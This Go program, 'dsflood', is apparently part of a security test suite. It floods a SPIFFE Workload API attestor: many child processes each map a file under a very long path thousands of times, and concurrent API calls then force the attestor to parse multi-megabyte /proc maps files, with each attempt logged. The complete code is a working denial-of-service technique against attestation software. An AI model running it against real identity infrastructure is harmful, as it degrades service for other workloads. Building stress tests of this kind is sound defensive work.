// Command dsflood is the attack suite's attestation flood: it starts
// -children copies of itself that each map a file with a long path -maps
// times (so that each child's /proc/<pid>/maps is several MiB), waits until
// all are ready, and then calls the Workload API for -duration with
// -concurrency calls at a time, each bounded by -timeout. Every attempt is
// logged as a JSON line to -log, before any counting.
//
//	dsflood -socket PATH -dir DIR -log FILE [-children 255] [-maps 2800]
//	        [-duration 40s] [-concurrency 4] [-timeout 10s]
package main

import (
	"context"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"log/slog"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"time"

	"github.com/spiffe/go-spiffe/v2/workloadapi"
)

// Attempt is one line of -log.
type Attempt struct {
	Start     time.Time     `json:"start"`
	Took      time.Duration `json:"took"`
	SPIFFEIDs []string      `json:"spiffe_ids,omitempty"`
	Error     string        `json:"error,omitempty"`
}

func main() {
	if len(os.Args) > 2 && os.Args[1] == "-mapper" {
		if err := mapper(os.Args[2]); err != nil {
			slog.Error("dsflood mapper failed", "error", err)
			os.Exit(1)
		}
		return
	}
	if err := run(os.Args[1:]); err != nil {
		slog.Error("dsflood failed", "error", err)
		os.Exit(1)
	}
}

// mapper maps the file n times, one page each at offset 0 (adjacent
// mappings of the same page never merge), says "ready" and sleeps.
func mapper(spec string) error {
	var n int
	var file string
	if _, err := fmt.Sscanf(spec, "%d:%s", &n, &file); err != nil {
		return err
	}
	f, err := os.Open(file)
	if err != nil {
		return err
	}
	for range n {
		if _, err := syscall.Mmap(int(f.Fd()), 0, os.Getpagesize(), syscall.PROT_READ, syscall.MAP_PRIVATE); err != nil {
			return err
		}
	}
	fmt.Println("ready")
	for {
		time.Sleep(time.Hour)
	}
}

func run(args []string) error {
	fs := flag.NewFlagSet("dsflood", flag.ContinueOnError)
	socket := fs.String("socket", "", "Workload API socket path")
	dir := fs.String("dir", "", "directory for the mapped file")
	logPath := fs.String("log", "", "JSON lines, one per attempt")
	children := fs.Int("children", 255, "children to start")
	maps := fs.Int("maps", 2800, "mappings per child")
	duration := fs.Duration("duration", 40*time.Second, "how long to call the Workload API")
	concurrency := fs.Int("concurrency", 4, "calls in flight")
	timeout := fs.Duration("timeout", 10*time.Second, "bound of each call")
	if err := fs.Parse(args); err != nil {
		return err
	}
	if *socket == "" || *dir == "" || *logPath == "" {
		return errors.New("usage: dsflood -socket PATH -dir DIR -log FILE")
	}
	file, err := deepFile(*dir)
	if err != nil {
		return err
	}
	kids, err := startMappers(*children, *maps, file)
	defer func() {
		for _, k := range kids {
			_ = k.Process.Kill()
			_ = k.Wait()
		}
	}()
	if err != nil {
		return err
	}
	if err := flood(*socket, *logPath, *duration, *concurrency, *timeout); err != nil {
		return err
	}
	// The flood only counts if every child kept its maps until the end.
	for _, k := range kids {
		stat, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", k.Process.Pid))
		if err != nil || strings.Contains(string(stat), ") Z ") {
			return fmt.Errorf("child %d ended during the flood", k.Process.Pid)
		}
	}
	return nil
}

// deepFile writes a one-page file under a path of about 3 KiB (12
// directories of 250 characters) in dir: every mapping of it costs the
// attestor a long maps line.
func deepFile(dir string) (string, error) {
	deep := dir
	for i := range 12 {
		deep = filepath.Join(deep, fmt.Sprintf("%02d", i)+strings.Repeat("m", 248))
	}
	if err := os.MkdirAll(deep, 0o755); err != nil {
		return "", err
	}
	file := filepath.Join(deep, "huge.bin")
	return file, os.WriteFile(file, make([]byte, os.Getpagesize()), 0o644)
}

// startMappers starts n children that each map file maps times and waits
// until each says it is ready; it returns those started, even on error.
func startMappers(n, maps int, file string) ([]*exec.Cmd, error) {
	self, err := os.Executable()
	if err != nil {
		return nil, err
	}
	var kids []*exec.Cmd
	for range n {
		k := exec.Command(self, "-mapper", fmt.Sprintf("%d:%s", maps, file))
		out, err := k.StdoutPipe()
		if err != nil {
			return kids, err
		}
		k.Stderr = os.Stderr
		k.SysProcAttr = &syscall.SysProcAttr{Pdeathsig: syscall.SIGKILL}
		if err := k.Start(); err != nil {
			return kids, err
		}
		kids = append(kids, k)
		buf := make([]byte, 6)
		if _, err := out.Read(buf); err != nil || string(buf) != "ready\n" {
			return kids, fmt.Errorf("child %d not ready: %q %v", k.Process.Pid, buf, err)
		}
	}
	return kids, nil
}

// flood calls the Workload API from concurrency goroutines for duration,
// each call bounded by timeout, logging every attempt to logPath.
func flood(socket, logPath string, duration time.Duration, concurrency int, timeout time.Duration) error {
	logf, err := os.Create(logPath)
	if err != nil {
		return err
	}
	defer logf.Close()
	var mu sync.Mutex
	end := time.Now().Add(duration)
	var wg sync.WaitGroup
	for range concurrency {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for time.Now().Before(end) {
				a := Attempt{Start: time.Now()}
				ctx, cancel := context.WithTimeout(context.Background(), timeout)
				x, err := workloadapi.FetchX509Context(ctx, workloadapi.WithAddr("unix://"+socket))
				cancel()
				a.Took = time.Since(a.Start)
				if err != nil {
					a.Error = err.Error()
				} else {
					for _, s := range x.SVIDs {
						a.SPIFFEIDs = append(a.SPIFFEIDs, s.ID.String())
					}
				}
				data, _ := json.Marshal(a)
				mu.Lock()
				_, _ = logf.Write(append(data, '\n'))
				mu.Unlock()
			}
		}()
	}
	wg.Wait()
	return nil
}
